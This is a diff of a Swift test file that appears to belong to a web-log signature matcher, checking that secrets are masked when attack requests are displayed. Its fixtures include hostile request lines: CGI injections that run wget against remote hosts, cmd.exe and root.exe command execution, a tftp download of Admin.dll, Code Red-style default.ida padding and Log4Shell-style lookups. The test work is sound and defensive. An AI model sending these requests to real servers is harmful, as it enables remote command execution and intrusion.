@@ -20,28 +20,47 @@ struct ShownRequestTests {
       ("/.env", "- /.env"),
       ("GET /.env", "GET /.env"),
       ("GET /cgi-bin/;x=geheim HTTP/1.1", "GET /cgi-bin/;x=[...] HTTP/1.1"),
-      ("GET /cgi-bin/;wget http://u:geheim@h/x HTTP/1.1", "GET /cgi-bin/;wget%20http://[...]@h/x HTTP/1.1"),
+      ("GET /cgi-bin/;wget http://u:geheim@h/x HTTP/1.1", "GET /cgi-bin/;wget%20http://[...]/x HTTP/1.1"),
       (
         "GET /cgi-bin/;wget%20http%3A%2f%2Fu%3Age/heim%40h%2fx HTTP/1.1",
         "GET /cgi-bin/;wget%20http%3A%2f%2Fu%3Age/heim%40h%2fx HTTP/1.1"
       ),
       (
         "GET /cgi-bin/;wget%20http%3A%2f%2Fu%3Ageheim%40h%2fx HTTP/1.1",
-        "GET /cgi-bin/;wget%20http%3A%2f%2F[...]%40h%2fx HTTP/1.1"
+        "GET /cgi-bin/;wget%20http%3A%2f%2F[...]%2fx HTTP/1.1"
       ),
       (
         "GET /cgi-bin/;wget%2520http%253A%252f%252Fgeheim%2540h HTTP/1.1",
-        "GET /cgi-bin/;wget%2520http%253A%252f%252F[...]%2540h HTTP/1.1"
+        "GET /cgi-bin/;wget%2520http%253A%252f%252F[...] HTTP/1.1"
       ),
       ("GET /cgi-bin/;u:ge=h;e&im@h/ HTTP/1.1", "GET /cgi-bin/;u:ge=[...];e&im@h/ HTTP/1.1"),
       (
         "GET /c/winnt/system32/cmd.exe?/c+dir&password=geheim&x=1 HTTP/1.0",
-        "GET /c/winnt/system32/cmd.exe?/c+dir&password=[...]&x=1 HTTP/1.0"
+        "GET /c/winnt/system32/cmd.exe?/c+dir[...] HTTP/1.0"
       ),
       (
         "GET /c/winnt/system32/cmd.exe?/c+dir+http://u:ge?heim@h/ HTTP/1.0",
-        "GET /c/winnt/system32/cmd.exe?/c+dir+http://u:ge?heim@h/ HTTP/1.0"
+        "GET /c/winnt/system32/cmd.exe?/c+dir[...] HTTP/1.0"
       ),
+      ("GET /cgi-bin/;a:geheim@inner.example:80/x HTTP/1.1", "GET /cgi-bin/;[...]/x HTTP/1.1"),
+      ("GET /scripts/root.exe?/c+dir+c:\\ HTTP/1.0", "GET /scripts/root.exe?/c+dir+c:\\ HTTP/1.0"),
+      ("GET /scripts/root.exe?/c+dir+c:\\geheim HTTP/1.0", "GET /scripts/root.exe?/c+dir+c:\\[...] HTTP/1.0"),
+      ("GET /scripts/root.exe?name=geheim HTTP/1.0", "GET /scripts/root.exe?[...] HTTP/1.0"),
+      ("GET /scripts/Admin.dll?/c%20geheim HTTP/1.0", "GET /scripts/Admin.dll?/c[...] HTTP/1.0"),
+      ("GET /scripts/root.exe?/c+echo+geheim HTTP/1.0", "GET /scripts/root.exe?/c+echo[...] HTTP/1.0"),
+      (
+        "GET /scripts/root.exe?/c+tftp%20-i+192.0.2.7%20GET+Admin.dll+geheim HTTP/1.0",
+        "GET /scripts/root.exe?/c+tftp%20-i+192.0.2.7%20GET+Admin.dll[...] HTTP/1.0"
+      ),
+      (
+        "GET /scripts/root.exe?/c+tftp+-i+geheim HTTP/1.0",
+        "GET /scripts/root.exe?/c+tftp[...] HTTP/1.0"
+      ),
+      (
+        "GET /default.ida?NNNNNNNNNNNN%u9090%u00=a&x=geheim HTTP/1.0",
+        "GET /default.ida?NNNNNNNNNNNN%u9090%u00=a[...] HTTP/1.0"
+      ),
+      ("GET /default.ida?XXXXXXXXXXXX%ugeheim HTTP/1.0", "GET /default.ida?XXXXXXXXXXXX[...] HTTP/1.0"),
     ])
   func shown(request: String, expected: String) { #expect(line(request) == expected) }
 
@@ -87,7 +106,7 @@ struct ShownRequestTests {
     let table = SignatureTable(own: try OwnSignatures.read(Array(text.utf8)))
     let referer = Array("https://u:geheim@evil.example/a?geheim".utf8)
     let shown = table.match(Request(line: "GET / HTTP/1.1".utf8, referer: referer))?.line
-    #expect(shown == "Referer: https://[...]@evil.example/a?[...]")
+    #expect(shown == "Referer: https://[...]/a?[...]")
   }
 
   @Test("has the expression, but not what is looked up, where it is in the target")
@@ -134,6 +153,7 @@ struct ShownRequestTests {
       String(repeating: "${lower:", count: 8000) + String(repeating: "}", count: 8000),
       "/" + String(repeating: "%25", count: 21_000), "/cgi-bin/;" + String(repeating: "//a:", count: 16_000),
       "/" + String(repeating: "a", count: 65_000), "/?" + String(repeating: "*think", count: 10_000),
+      "/" + String(repeating: "a/../", count: 13_000), "/" + String(repeating: "a/./", count: 16_000),
       "/cgi-bin/;" + String(repeating: "=;a", count: 20_000), "/" + String(repeating: "/${", count: 20_000),
     ]
     for target in targets {
